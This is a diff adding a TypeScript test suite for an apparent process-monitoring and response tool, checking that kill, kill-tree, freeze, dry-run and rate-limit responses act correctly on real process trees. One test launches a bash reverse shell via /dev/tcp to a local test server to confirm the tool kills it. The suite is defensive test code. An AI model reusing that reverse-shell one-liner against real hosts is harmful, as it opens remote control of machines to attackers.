@@ -1,0 +1,175 @@
+// SPDX-License-Identifier: Apache-2.0
+//
+// Responses on real programs, in both tiers and as under Linux 5.10: a tree is killed whatever it forks
+// meanwhile, a freeze holds against SIGCONT and ends, a dry run changes nothing, a limit disarms, and the
+// workload's first process is left alone. /proc says who is left, not the agent.
+// Time limit: 900 s.
+import { writeFileSync } from "node:fs";
+import { createServer, type Socket } from "node:net";
+import { join } from "node:path";
+import { test } from "uvu";
+import * as assert from "uvu/assert";
+import { stringify } from "yaml";
+import { buildFixture } from "./fixtures.js";
+import { run, scratch, VEDETTE } from "./programs.js";
+import { responded } from "./responding.js";
+
+const TREE = buildFixture("respond_tree");
+/** Ends when no process of the fixture is left for a while, and says so if that was soon. */
+const UNTIL_NONE =
+  'i=0; n=0; while [ $n -lt 5 ] && [ $i -lt 500 ]; do if pgrep -f "^$0" >/dev/null; then n=0; else n=$((n+1)); fi; i=$((i+1)); sleep 0.1; done; [ $i -lt 500 ] && echo none-left';
+const untilNone = UNTIL_NONE.replace("$0", TREE);
+/** Says how many there are, once there are so many, or after a minute. */
+const untilCount = (count: number): string =>
+  `i=0; until [ $(pgrep -f "^${TREE}" | wc -l) = ${count} ] || [ $i -gt 300 ]; do i=$((i+1)); sleep 0.2; done; pgrep -f "^${TREE}" | wc -l`;
+/** Until an alert says this of a response, or after a minute. */
+const untilTold = (status: string): string =>
+  `i=0; until grep -q '"response.status":"${status}"' alerts.json || [ $i -gt 300 ]; do i=$((i+1)); sleep 0.2; done`;
+const MANNERS = [
+  { tiers: "all", env: {} },
+  { tiers: "trace", env: {} },
+  { tiers: "all", env: { VEDETTE_ASSUME_KERNEL: "5.10" } },
+];
+
+for (const { tiers, env } of MANNERS) {
+  const how = `--tiers ${tiers}${"VEDETTE_ASSUME_KERNEL" in env ? ", as under Linux 5.10" : ""}`;
+  const options = { flags: ["--tiers", tiers], env };
+
+  for (const mode of ["tree", "hop", "burst"]) {
+    test(`${how}: kill-tree leaves nobody of a ${mode}, nor of what it forks meanwhile`, async () => {
+      for (let round = 0; round < 3; ++round) {
+        const { run, steps, statuses } = await responded(
+          { action: "kill-tree" },
+          `${TREE} ${mode} TRIGGER & ${untilNone}`,
+          options,
+        );
+        assert.match(run.stdout, /none-left/, `${run.stderr}\n${JSON.stringify(steps)}`);
+        assert.is(run.status, 0);
+        assert.equal(statuses, ["requested", "done"], JSON.stringify(steps));
+        assert.ok(Number(steps[1]!.output_fields["response.processes"]) >= 1);
+      }
+    });
+  }
+
+  test(`${how}: kill ends the process, and leaves its children`, async () => {
+    const { run, statuses } = await responded(
+      { action: "kill" },
+      `${TREE} tree TRIGGER; echo "ended $?"; ${untilCount(4)}; pkill -KILL -f "^${TREE}"`,
+      options,
+    );
+    assert.match(run.stdout, /^ended 137$/m, run.stderr);
+    assert.match(run.stdout, /^4$/m);
+    assert.equal(statuses, ["requested", "done"]);
+  });
+
+  test(`${how}: a freeze holds a tree against SIGCONT, and ends on time`, async () => {
+    const script =
+      `${TREE} tick TRIGGER ticks & ` +
+      // Until two looks in a row see the same size, SIGCONT or not.
+      'i=0; a=x; while [ $i -lt 300 ]; do b=$(stat -c %s ticks 2>/dev/null); [ "$a" = "$b" ] && [ "$b" -gt 0 ] && break; a=$b; ' +
+      `pkill -CONT -f "^${TREE}"; sleep 0.3; i=$((i+1)); done; echo "held $b"; ` +
+      'i=0; while [ $i -lt 300 ] && [ "$(stat -c %s ticks)" = "$b" ]; do sleep 0.1; i=$((i+1)); done; ' +
+      `[ "$(stat -c %s ticks)" -gt "$b" ] && echo goes-on; pkill -KILL -f "^${TREE}"; wait`;
+    const { run, statuses, steps } = await responded({ action: "freeze", for: "10s" }, script, options);
+    assert.match(run.stdout, /^held \d+$/m, run.stderr);
+    assert.match(run.stdout, /^goes-on$/m);
+    assert.equal(statuses, ["requested", "done", "ended"], JSON.stringify(steps));
+    assert.is(steps[1]!.output_fields["response.processes"], 3);
+  });
+
+  test(`${how}: SIGKILL ends what is frozen`, async () => {
+    const script =
+      `${TREE} tick TRIGGER ticks & sleep 0; i=0; a=x; while [ $i -lt 300 ]; do b=$(stat -c %s ticks 2>/dev/null); [ "$a" = "$b" ] && break; a=$b; sleep 0.3; i=$((i+1)); done; ` +
+      `pkill -KILL -f "^${TREE}"; wait; ${untilNone}`;
+    const { run, statuses } = await responded({ action: "freeze", for: "10m" }, script, options);
+    assert.match(run.stdout, /none-left/, run.stderr);
+    assert.equal(statuses.slice(0, 2), ["requested", "done"]);
+  });
+}
+
+test("a dry run changes nothing, and says what it would have done", async () => {
+  const script = (wait: string): string =>
+    `${TREE} tree TRIGGER & ${wait}; ${untilCount(5)}; pkill -KILL -f "^${TREE}"; exit 7`;
+  const plain = await responded(null, script(":"));
+  const dry = await responded({ action: "kill-tree", mode: "dry-run" }, script(untilTold("done")));
+  assert.equal([dry.run.stdout, dry.run.status], [plain.run.stdout, plain.run.status]);
+  assert.equal([dry.run.stdout, dry.run.status], ["5\n", 7]);
+  assert.equal(dry.statuses, ["requested", "done"]);
+  assert.match(dry.steps[1]!.output, /a dry run: it would have killed \d+/);
+  assert.equal(plain.steps, []);
+});
+
+test("a row without a mode is a dry run", async () => {
+  const { run, steps } = await responded(
+    { action: "kill", mode: undefined },
+    `tail -f TRIGGER & ${untilTold("done")}; kill $! && echo lives`,
+  );
+  assert.match(run.stdout, /lives/);
+  assert.ok(steps.every(({ output_fields: fields }) => fields["response.mode"] === "dry-run"));
+});
+
+test("the workload's first process is left alone, unless the row names it", async () => {
+  const script = `exec 3<TRIGGER; ${untilTold("refused")}; echo lives`;
+  const spared = await responded({ action: "kill-tree" }, script);
+  assert.match(spared.run.stdout, /lives/);
+  assert.equal(spared.statuses, ["requested", "refused"]);
+  assert.match(spared.steps[1]!.output, /first process/);
+  const named = await responded({ action: "kill-tree", first_process: true }, script);
+  assert.is(named.run.status, 137, named.run.stderr);
+});
+
+test("a program of `except` is left alone", async () => {
+  const row = { action: "kill", except: { programs: ["/usr/bin/tail", "/bin/tail"] } };
+  const { run, statuses } = await responded(row, `tail -f TRIGGER & ${untilTold("refused")}; kill $! && echo lives`);
+  assert.match(run.stdout, /lives/, run.stderr);
+  assert.equal(statuses, ["requested", "refused"]);
+});
+
+test("a limit disarms the row, and says so once", async () => {
+  const script = `for i in 1 2; do tail -f TRIGGER; echo "ended $?"; done; for i in 1 2 3; do ${TREE} sit TRIGGER & done; ${untilTold("limited")}; sleep 1; ${untilCount(3)}; pkill -KILL -f "^${TREE}"`;
+  const { run, statuses } = await responded({ action: "kill", limit: { per_minute: 2 } }, script);
+  assert.is(run.stdout, "ended 137\nended 137\n3\n", run.stderr);
+  assert.equal(statuses, ["requested", "done", "requested", "done", "limited"]);
+});
+
+test("a response is a row of the incident's timeline", async () => {
+  const { run } = await responded({ action: "kill" }, "tail -f TRIGGER; true", { flags: ["--incidents"] });
+  assert.match(run.stderr, /INCIDENT/);
+  assert.match(run.stderr, /Response kill: requested/);
+  assert.match(run.stderr, /Response kill: done \(1 process\)/);
+});
+
+test("a reverse shell is killed with what it started", async () => {
+  let [shells, closed] = [0, 0];
+  const server = createServer((shell: Socket) => {
+    shells++;
+    const asking = setInterval(() => shell.write("sleep 100 &\ncat /dev/null\n"), 1);
+    shell
+      .on("error", () => undefined)
+      .on("close", () => {
+        clearInterval(asking);
+        closed++;
+      });
+  });
+  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
+  const { port } = server.address() as { port: number };
+  const folder = scratch();
+  const respond = join(folder, "respond.yaml");
+  writeFileSync(
+    respond,
+    stringify({
+      respond: [
+        { rules: ["Shell on a socket", "Shell on socket", "Reverse shell"], action: "kill-tree", mode: "enforce" },
+      ],
+    }),
+  );
+  const shell = `bash -c 'bash -i >&/dev/tcp/127.0.0.1/${port} 0>&1' 2>/dev/null; echo over`;
+  const argv = [...VEDETTE, "run", "--policy", "policies/command-and-control/shell-on-socket", "--respond", respond];
+  const ended = await run([...argv, "--", "sh", "-c", shell], { limitMs: 60_000 });
+  server.close();
+  assert.match(ended.stdout, /over/, ended.stderr);
+  assert.equal([shells, closed], [1, 1]);
+  assert.match(ended.stderr, /Response kill-tree: done/);
+});
+
+test.run();
